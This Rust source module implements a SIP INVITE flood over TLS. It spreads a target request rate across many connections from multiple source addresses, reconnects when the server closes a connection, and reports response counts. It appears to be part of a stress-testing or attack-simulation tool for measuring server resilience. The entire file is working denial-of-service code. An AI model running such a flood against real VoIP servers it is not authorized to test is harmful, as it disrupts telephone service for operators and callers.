//! SIP INVITE flood over TLS: one connection per source (or several from one source),
//! INVITEs at a total rate spread over them, answers counted by class. A connection the
//! server closes is opened again after a short pause, as an attacker would.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::net::tls_from;
use crate::report::Report;
use crate::sip::{invite, StatusCounter};
use crate::sources::Sources;

#[derive(Default)]
struct Counts {
    sent: AtomicU64,
    connects: AtomicU64,
    connect_failures: AtomicU64,
    closed_by_server: AtomicU64,
    by_class: [AtomicU64; 7],
}

#[allow(clippy::too_many_arguments)]
async fn one_connection_loop(
    src: Ipv4Addr,
    target: SocketAddr,
    tls: Arc<rustls::ClientConfig>,
    name: String,
    per_conn_rate: f64,
    end: Instant,
    next_id: Arc<AtomicU64>,
    counts: Arc<Counts>,
) {
    while Instant::now() < end {
        let Ok(stream) = tls_from(Some(src), target, tls.clone(), &name).await else {
            counts.connect_failures.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        };
        counts.connects.fetch_add(1, Ordering::Relaxed);
        let local = stream
            .get_ref()
            .0
            .local_addr()
            .unwrap_or(SocketAddr::from((src, 0)));
        let (mut rd, mut wr) = tokio::io::split(stream);
        let reader_counts = counts.clone();
        let reader = tokio::spawn(async move {
            let mut c = StatusCounter::default();
            let mut buf = vec![0u8; 16384];
            let closed = loop {
                match tokio::time::timeout_at(end.into(), rd.read(&mut buf)).await {
                    Err(_) => break false,
                    Ok(Ok(0)) | Ok(Err(_)) => break true,
                    Ok(Ok(n)) => c.feed(&buf[..n]),
                }
            };
            for (k, v) in c.by_class.iter().enumerate() {
                reader_counts.by_class[k].fetch_add(*v, Ordering::Relaxed);
            }
            closed
        });
        let start = Instant::now();
        let mut sent_here = 0u64;
        while Instant::now() < end && !reader.is_finished() {
            let due = start + Duration::from_secs_f64(sent_here as f64 / per_conn_rate.max(0.001));
            if let Some(wait) = due.checked_duration_since(Instant::now()) {
                tokio::time::sleep(wait.min(end.saturating_duration_since(Instant::now()))).await;
                continue;
            }
            let n = next_id.fetch_add(1, Ordering::Relaxed);
            if wr
                .write_all(invite(local, target, n).as_bytes())
                .await
                .is_err()
            {
                break;
            }
            sent_here += 1;
            counts.sent.fetch_add(1, Ordering::Relaxed);
        }
        drop(wr);
        if let Ok(true) = reader.await {
            counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

#[allow(clippy::too_many_arguments)]
pub async fn run(
    target: SocketAddr,
    sources: Sources,
    conns_per_source: u64,
    tls: Arc<rustls::ClientConfig>,
    name: &str,
    rate: u64,
    seconds: f64,
) -> Result<Report> {
    let counts = Arc::new(Counts::default());
    let next_id = Arc::new(AtomicU64::new(rand::random::<u32>().into()));
    let end = Instant::now() + Duration::from_secs_f64(seconds);
    let conns = u64::from(sources.len()) * conns_per_source.max(1);
    let per_conn = rate as f64 / conns as f64;
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..conns {
        let src = sources.nth(i);
        tasks.spawn(one_connection_loop(
            src,
            target,
            tls.clone(),
            name.to_string(),
            per_conn,
            end,
            next_id.clone(),
            counts.clone(),
        ));
    }
    while tasks.join_next().await.is_some() {}
    let class = |k: usize| counts.by_class[k].load(Ordering::Relaxed);
    let sent = counts.sent.load(Ordering::Relaxed);
    let mut r = Report::new();
    r.add("connections", conns)
        .add("sent", sent)
        .add("answered_1xx", class(1))
        .add("answered_2xx", class(2))
        .add("answered_4xx", class(4))
        .add("answered_5xx", class(5) + class(6) + class(3))
        .add("connects", counts.connects.load(Ordering::Relaxed))
        .add(
            "connect_failures",
            counts.connect_failures.load(Ordering::Relaxed),
        )
        .add(
            "closed_by_server",
            counts.closed_by_server.load(Ordering::Relaxed),
        );
    Ok(r)
}
